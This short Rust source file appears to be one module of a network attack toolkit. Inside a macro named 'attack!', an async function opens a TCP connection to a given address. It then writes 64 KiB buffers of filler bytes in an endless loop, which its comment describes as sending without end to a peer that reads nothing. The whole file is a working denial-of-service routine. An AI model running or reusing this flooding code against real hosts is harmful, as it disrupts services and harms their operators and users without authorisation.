//! Sends without end to a peer that reads nothing.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(to: String) -> Result<String> {
        let peer = TcpStream::connect(&to).await?;
        loop {
            peer.write_all(&[1; 65_536]).await?;
        }
    }
}
